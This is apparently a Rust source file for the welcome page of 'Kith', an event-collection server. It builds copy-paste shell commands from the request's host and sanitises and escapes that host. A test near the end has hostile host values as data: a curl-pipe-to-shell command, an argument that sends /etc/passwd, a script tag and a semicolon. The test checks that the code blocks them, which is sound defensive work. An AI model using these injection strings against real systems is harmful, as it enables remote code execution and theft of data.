//! `GET /`: what someone who opens the server's address finds. Kith has no dashboard yet, so
//! this says that the server runs and where to go next: the first key, the first event, the
//! first query, and the API's description. Nothing about the data: the page needs no key.

use std::sync::Arc;

use axum::extract::State;
use axum::http::{HeaderMap, HeaderValue, header};
use axum::response::{Html, IntoResponse, Response};
use serde_json::json;

use crate::app::AppState;
use crate::caller::{Origin, PeerAddress};

const VERSION: &str = env!("CARGO_PKG_VERSION");

/// The endpoints worth knowing first, with what each is for.
const LINKS: &[(&str, &str)] = &[
    ("/openapi.json", "every endpoint, described (OpenAPI 3)"),
    ("/healthz", "liveness"),
    ("/readyz", "readiness: events are being made durable"),
    ("/metrics", "Prometheus metrics"),
    ("/docs/errors", "every error code the API answers"),
];

/// `GET /`.
#[utoipa::path(get, path = "/", tag = "operations",
    description = "What this server is and where to start: its version, the first commands (a key, an event, a query) with this server's address, and the endpoints to know. HTML for a browser (`Accept: text/html`), JSON otherwise. Needs no key and says nothing about the data.",
    responses((status = 200, description = "the welcome, as HTML or JSON")))]
pub async fn welcome(
    State(app): State<Arc<AppState>>,
    peer: PeerAddress,
    headers: HeaderMap,
) -> Response {
    let origin = Origin::new(&headers, peer, &app.config.trusted_proxies);
    let steps = first_steps(
        &base_url(&origin),
        uses_the_default_data_dir(&app.config.data_dir),
    );
    let mut response = if wants_html(&headers) {
        Html(page(&steps)).into_response()
    } else {
        axum::Json(json!({
            "name": "Kith",
            "version": VERSION,
            "status": "running",
            "first_steps": steps.iter().map(|(what, command)| json!({"what": what, "command": command})).collect::<Vec<_>>(),
            "links": LINKS.iter().map(|(path, what)| json!({"href": path, "what": what})).collect::<Vec<_>>(),
        }))
        .into_response()
    };
    // The address in it comes from the request's headers: no cache may answer another request
    // with it.
    response
        .headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    // A page or JSON at one address.
    response
        .headers_mut()
        .insert(header::VARY, HeaderValue::from_static("accept"));
    response
}

/// The address to put in the commands. It comes from `Host` or a proxy's headers, which the
/// client writes, and the commands are meant to be pasted into a shell: anything but a plain
/// host name or address (with a port) is replaced by a placeholder.
fn base_url(origin: &Origin<'_>) -> String {
    let (protocol, host) = origin.public_address();
    let plain = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
    if plain {
        format!("{protocol}://{host}")
    } else {
        "http://KITH_ADDRESS".to_string()
    }
}

/// Whether the server keeps its data in `./kith-data`, where `kith` commands look by default.
fn uses_the_default_data_dir(data_dir: &std::path::Path) -> bool {
    use std::path::Component;
    fn named(path: &std::path::Path) -> Vec<Component<'_>> {
        path.components()
            .filter(|c| *c != Component::CurDir)
            .collect()
    }
    named(data_dir) == named(std::path::Path::new(crate::app::DEFAULT_DATA_DIR))
}

/// The commands that take a newcomer from a running server to a first answer. The commands run
/// on the server's machine name its data directory: where `kith` looks by default, or a
/// placeholder for the one the server was given (its path is not shown: the page needs no key,
/// and a path says something about the machine).
fn first_steps(base: &str, default_data_dir: bool) -> Vec<(&'static str, String)> {
    let (where_keys_are, data_dir) = if default_data_dir {
        (
            "On the server's machine, in the directory it was started in (its data is in \
             ./kith-data there), create a write key for a source; it prints the key and nothing \
             else",
            "",
        )
    } else {
        (
            "On the server's machine, create a write key for a source; it prints the key and \
             nothing else. DATA_DIR is the directory the server was started with (its \
             --data-dir, KITH_DATA_DIR or data_dir in kith.toml): a key works only there",
            " --data-dir DATA_DIR",
        )
    };
    vec![
        (
            where_keys_are,
            format!("WRITE_KEY=$(kith key create{data_dir} --scope ingest --source web)"),
        ),
        (
            "Send an event, as any Segment or RudderStack SDK would",
            format!(
                "curl -u \"$WRITE_KEY:\" {base}/v1/track -H 'Content-Type: application/json' \
                 -d '{{\"userId\": \"ana\", \"event\": \"Order Completed\", \"properties\": {{\"revenue\": 349.5, \"currency\": \"MXN\"}}}}'"
            ),
        ),
        (
            "Create a read key and query what was collected",
            format!(
                "READ_KEY=$(kith key create{data_dir} --scope read) && curl -H \"Authorization: Bearer $READ_KEY\" {base}/v1/query \
                 -d '{{\"sql\": \"SELECT event, count(*) AS n FROM events GROUP BY event\"}}'"
            ),
        ),
        (
            "Or query from the server's machine, with or without the server running",
            format!(
                "kith sql{data_dir} \"SELECT event, count(*) AS n FROM events GROUP BY event\""
            ),
        ),
    ]
}

fn page(steps: &[(&str, String)]) -> String {
    let steps: String = steps
        .iter()
        .map(|(what, command)| {
            format!(
                "<li><p>{}</p><pre><code>{}</code></pre></li>\n",
                escape(what),
                escape(command)
            )
        })
        .collect();
    let links: String = LINKS
        .iter()
        .map(|(path, what)| {
            format!(
                "<li><a href=\"{path}\"><code>{path}</code></a>: {}</li>\n",
                escape(what)
            )
        })
        .collect();
    format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <title>Kith {VERSION}</title>\
         <style>body{{font-family:system-ui,sans-serif;max-width:52rem;margin:2rem auto;padding:0 1rem;line-height:1.5}}\
         pre{{background:#f4f4f4;padding:.6rem;overflow-x:auto;white-space:pre-wrap}}</style></head>\n\
         <body><h1>Kith {VERSION} is running</h1>\n\
         <p>Kith collects events the way Segment and RudderStack SDKs send them, keeps each one \
         durably before acknowledging it, and answers SQL over everything collected. Point an SDK \
         at this address, or start here:</p>\n<ol>\n{steps}</ol>\n<h2>Endpoints</h2>\n<ul>\n{links}</ul>\n\
         </body></html>\n"
    )
}

/// Whether the request is a browser's, asking for a page (`Accept: text/html`).
pub(crate) fn wants_html(headers: &HeaderMap) -> bool {
    headers
        .get(header::ACCEPT)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|accept| accept.contains("text/html"))
}

/// Text for HTML: the address in the commands comes from the request's headers.
pub(crate) fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::caller::TrustedProxies;
    use crate::caller::tests::headers as with_headers;

    /// A request from a proxy on this machine.
    fn origin(headers: &HeaderMap) -> Origin<'_> {
        static TRUSTED: std::sync::LazyLock<TrustedProxies> =
            std::sync::LazyLock::new(TrustedProxies::default);
        Origin::new(headers, PeerAddress(Some([127, 0, 0, 1].into())), &TRUSTED)
    }

    #[test]
    fn the_commands_name_this_servers_address() {
        let proxied = with_headers(&[
            ("host", "10.0.0.5:8417"),
            ("x-forwarded-proto", "https"),
            ("x-forwarded-host", "collect.tienda.mx"),
        ]);
        assert_eq!(base_url(&origin(&proxied)), "https://collect.tienda.mx");
        let v6 = with_headers(&[("host", "[::1]:8417")]);
        assert_eq!(base_url(&origin(&v6)), "http://[::1]:8417");
    }

    #[test]
    fn the_commands_name_the_data_directory_without_showing_it() {
        assert!(uses_the_default_data_dir(std::path::Path::new(
            "./kith-data"
        )));
        assert!(uses_the_default_data_dir(std::path::Path::new("kith-data")));
        assert!(!uses_the_default_data_dir(std::path::Path::new(
            "/srv/kith"
        )));

        let elsewhere = first_steps("http://127.0.0.1:8417", false);
        assert_eq!(
            elsewhere[0].1,
            "WRITE_KEY=$(kith key create --data-dir DATA_DIR --scope ingest --source web)"
        );
        assert!(
            elsewhere[0]
                .0
                .contains("DATA_DIR is the directory the server was started with")
        );
        assert!(
            elsewhere[2]
                .1
                .starts_with("READ_KEY=$(kith key create --data-dir DATA_DIR --scope read)")
        );
        assert!(
            elsewhere[3]
                .1
                .starts_with("kith sql --data-dir DATA_DIR \"SELECT")
        );
        let default = first_steps("http://127.0.0.1:8417", true);
        assert!(
            !default
                .iter()
                .any(|(_, command)| command.contains("--data-dir"))
        );
        assert!(default[0].0.contains("./kith-data"));
    }

    #[test]
    fn what_the_request_names_cannot_reach_a_shell_or_the_markup() {
        for host in [
            "evil.example/$(curl evil|sh)#",
            "a.mx' -d @/etc/passwd '",
            "<script>alert(1)</script>",
            "a.mx;b",
        ] {
            let mut headers = with_headers(&[("host", "127.0.0.1:8417")]);
            headers.insert("x-forwarded-host", HeaderValue::from_str(host).unwrap());
            assert_eq!(base_url(&origin(&headers)), "http://KITH_ADDRESS", "{host}");
        }
        // And the page escapes what it shows all the same.
        let html = page(&first_steps("http://<b>", true));
        assert!(!html.contains("<b>"), "{html}");
        assert!(html.contains("http://&lt;b&gt;/v1/track"));
    }
}
